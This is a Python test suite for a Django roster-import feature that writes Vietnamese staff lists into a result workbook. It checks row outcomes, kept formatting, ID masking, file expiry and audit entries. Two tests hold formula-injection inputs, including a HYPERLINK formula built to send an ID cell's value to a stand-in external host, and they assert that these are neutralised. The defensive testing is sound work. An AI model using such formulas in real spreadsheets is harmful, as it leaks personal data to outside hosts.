"""The result workbook: the clerk's own file with what became of each row; kept columns; files that go in time."""

import io
from datetime import timedelta

import pytest
import xlsxwriter
from openpyxl import Workbook, load_workbook

from common.errors import Forbidden
from people.models import AuditEntry, ColumnMapping, Roster
from people.models.roster import State
from people.periodic import forget_roster_files, requeue_rosters, work_on_roster
from people.resources import ask_to_apply, forget_mapping, result_workbook, submit_roster
from people.resources.result_file import keep_result
from people.rosters.choices import Choices
from people.services.rosters import forget_results
from tests.factories.people import AccountFactory
from tests.people.sheets import AS_OF, AT, HEAD, bring, cadre, forecast, hr, sheet

LAYOUT = {"DS": {name: at for at, name in enumerate(
    ["full_name", "birth", "identity", "phone", "email", "position", "unit", "notes"])}}  # fmt: skip


@pytest.fixture
def clerk(province):
    return hr("75")


def book_of(roster: Roster, by=None) -> Workbook:
    made = result_workbook(roster, at=AT, by=by)
    assert made
    return load_workbook(io.BytesIO(made.content))


def texts(book: Workbook) -> str:
    return "\n".join(
        str(cell.value) for sheet in book for row in sheet for cell in row if cell.value is not None
    )


def test_every_row_says_what_became_of_it_in_plain_words(clerk):
    roster = forecast(cadre(1), cadre(2, unit="Xã Không Có"), cadre(3, phone="0900 000 003 / 0900 000 004"))
    page = book_of(roster)["DS"]
    assert [page.cell(1, column).value for column in (1, 9, 10)] == ["Họ và tên", "Kết quả nạp", "Giải thích"]
    assert [page.cell(row, 9).value for row in (2, 3, 4)] == ["Thêm mới", "Không nhận", "Thêm mới"]
    assert "Không có đơn vị nào tên như vậy" in page["J3"].value
    assert "Ô có nhiều số điện thoại" in page["J4"].value
    assert page["A3"].fill.start_color.rgb != page["A2"].fill.start_color.rgb
    assert page["C2"].value == cadre(1)["cccd"]  # their own file, still being mended


def test_remarks_stand_at_the_cells_they_speak_of(clerk):
    roster = forecast(cadre(1, phone="12"), cadre(2, unit="Xã Không Có"))
    roster.layout = LAYOUT
    roster.save()
    page = book_of(roster)["DS"]
    assert "Số điện thoại không đúng" in page["D2"].comment.text
    assert "Không có đơn vị" in page["G3"].comment.text
    assert page["D3"].comment is None


def test_formats_sheets_and_merged_cells_are_kept(clerk):
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as book:
        red = book.add_format({"font_color": "red", "bold": True})
        page = book.add_worksheet("DS")
        page.merge_range("A1:H1", "DANH SÁCH CÁN BỘ", red)
        page.write_row(1, 0, list(HEAD.values()), red)
        for number in (2, 3):
            page.write_row(number, 0, [cadre(number).get(name, "") for name in HEAD])
        page.merge_range("G3:G4", "Xã Bảo Hòa")
        book.add_worksheet("Ghi chú").write(0, 0, "Giữ nguyên")
    roster = submit_roster(file.getvalue(), file_name="ds.xlsx", as_of=AS_OF, at=AT, by=clerk)
    roster.layout = LAYOUT
    roster.save()
    made = book_of(roster)
    assert made.sheetnames == ["DS", "Ghi chú"]
    assert made["DS"]["A2"].font.color.rgb == "FFFF0000"
    assert sorted(str(area) for area in made["DS"].merged_cells.ranges) == ["A1:H1", "G3:G4"]
    assert made["DS"]["I2"].value == "Kết quả nạp"
    assert [made["DS"].cell(row, 9).value for row in (3, 4)] == ["Thêm mới", "Thêm mới"]


def test_after_applying_the_file_goes_and_the_workbook_keeps_three_digits(
    clerk, django_capture_on_commit_callbacks
):
    rows = [cadre(1), cadre(2, notes="CCCD cũ 099 185 900 777"), cadre(3, cccd=99185900003.0)]
    with django_capture_on_commit_callbacks(execute=True):
        roster = submit_roster(sheet(*rows), file_name="ds.xlsx", as_of=AS_OF, at=AT, by=clerk)
        storage, name = roster.file.storage, roster.file.name
        ask_to_apply(roster, at=AT, by=clerk)
    roster.refresh_from_db()
    assert (roster.has_file, storage.exists(name), roster.choices) == (False, False, {})
    book = book_of(roster)
    for number in ("0991859", "099 185", "99185900"):
        assert number not in texts(book)
    assert "*********001" in texts(book)
    assert "*********777" in texts(book)
    assert "0900000001" in texts(book)


def test_a_csv_gets_a_workbook_of_its_own(clerk):
    text = ";".join(HEAD.values()) + "\n" + ";".join(cadre(1).get(name, "") for name in HEAD) + "\n"
    roster = submit_roster(text.encode(), file_name="ds.csv", as_of=AS_OF, at=AT, by=clerk)
    said = texts(book_of(roster))
    assert "Thêm mới" in said
    assert cadre(1)["cccd"] not in said


def test_nothing_we_add_is_a_formula(clerk):
    roster = forecast(cadre(1, position="=HYPERLINK(1)", unit="=1+1"), cadre(2))
    Roster.objects.filter(pk=roster.pk).update(file_name="=cmd.csv")
    roster.refresh_from_db()
    made = book_of(roster)
    assert not [cell.coordinate for page in made for row in page for cell in row if cell.data_type == "f"]


def test_of_a_senders_formula_only_the_value_goes_on_and_masked(clerk, django_capture_on_commit_callbacks):
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as book:
        page = book.add_worksheet("DS")
        page.write_row(0, 0, list(HEAD.values()))
        page.write_row(1, 0, [cadre(1).get(name, "") for name in HEAD])
        page.write_formula(1, 7, '=HYPERLINK("http://x.example/"&C2)', None, "099185900777")
    with django_capture_on_commit_callbacks(execute=True):
        roster = submit_roster(file.getvalue(), file_name="ds.xlsx", as_of=AS_OF, at=AT, by=clerk)
        before = book_of(roster)
        ask_to_apply(roster, at=AT, by=clerk)
    roster.refresh_from_db()
    for made in (before, book_of(roster)):
        assert not [cell.coordinate for page in made for row in page for cell in row if cell.data_type == "f"]
    assert made["DS"]["H2"].value == "*********777"


def test_without_file_and_workbook_the_stored_rows_still_tell(clerk):
    roster = bring(cadre(1), cadre(2, unit="Xã Không Có"))
    assert not roster.has_file
    said = texts(book_of(roster))
    assert "Không nhận" in said
    assert "*********001" in said


def test_a_workbook_of_many_rows_is_made_by_the_worker(clerk, settings, django_capture_on_commit_callbacks):
    roster = forecast(*(cadre(number) for number in range(5)))
    settings.ROSTER_AT_ONCE = 2
    with django_capture_on_commit_callbacks(execute=True):
        assert result_workbook(roster, at=AT, by=clerk) is None
    roster.refresh_from_db()
    assert "Thêm mới" in texts(book_of(roster, clerk))
    assert roster.has_file


def test_sending_it_is_written_down_and_needs_the_right(clerk):
    roster = forecast(cadre(1), cadre(2))
    with pytest.raises(Forbidden):
        result_workbook(roster, at=AT, by=AccountFactory())
    book_of(roster, clerk)
    entry = AuditEntry.objects.get(action="roster_exported")
    assert (entry.kind, entry.actor, entry.count) == (AuditEntry.Kind.EXPORT, clerk, 2)


def test_the_kept_workbook_goes_when_its_time_is_over(clerk, settings):
    roster = ask_to_apply(forecast(cadre(1)), at=AT, by=clerk)
    keep_result(roster, at=AT)
    roster.refresh_from_db()
    storage, name = roster.result.storage, roster.result.name
    assert forget_results(at=AT + timedelta(days=settings.ROSTER_RESULT_DAYS)) == 0
    assert forget_results(at=AT + timedelta(days=settings.ROSTER_RESULT_DAYS, seconds=1)) == 1
    assert not storage.exists(name)


def test_the_timetable_finds_what_the_queue_lost(clerk, django_capture_on_commit_callbacks):
    roster = ask_to_apply(forecast(cadre(1)), at=AT, by=clerk)
    assert roster.has_file  # the message about it was lost
    with django_capture_on_commit_callbacks(execute=True):
        assert requeue_rosters() == 1
    roster.refresh_from_db()
    assert not roster.has_file
    assert bool(roster.result)
    assert requeue_rosters() == 0
    assert work_on_roster(roster.pk) is False
    assert forget_roster_files() >= 0


def test_columns_a_clerk_explained_are_known_next_time(clerk):
    columns = {"full_name": 0, "birth": 1, "identity": 2, "phone": 3, "position": 5, "unit": 6}  # no e-mail
    chosen = Choices(columns={"DS": columns})
    first = submit_roster(sheet(cadre(1)), file_name="a.xlsx", as_of=AS_OF, at=AT, by=clerk, choices=chosen)
    assert not ColumnMapping.objects.exists()
    ask_to_apply(first, at=AT, by=clerk)
    mapping = ColumnMapping.objects.get()
    assert (mapping.columns, mapping.used_by, mapping.times) == (columns, clerk, 1)
    second = submit_roster(sheet(cadre(2)), file_name="b.xlsx", as_of=AS_OF, at=AT, by=clerk)
    assert second.totals["remembered_columns"] == ["DS"]
    assert second.chosen.columns == chosen.columns
    other = Choices(columns={"DS": columns | {"email": 4}})
    third = submit_roster(sheet(cadre(3)), file_name="c.xlsx", as_of=AS_OF, at=AT, by=clerk, choices=other)
    assert third.chosen.columns == other.columns
    assert forget_mapping(signature=mapping.signature)
    assert not forget_mapping(signature=mapping.signature)


def test_a_month_old_forecast_is_given_up_with_its_file(clerk):
    roster = forecast(cadre(1))
    Roster.objects.filter(pk=roster.pk).update(uploaded_at=AT - timedelta(days=400))
    assert forget_roster_files() == 1
    roster.refresh_from_db()
    assert (roster.state, roster.has_file) == (State.CANCELLED, False)
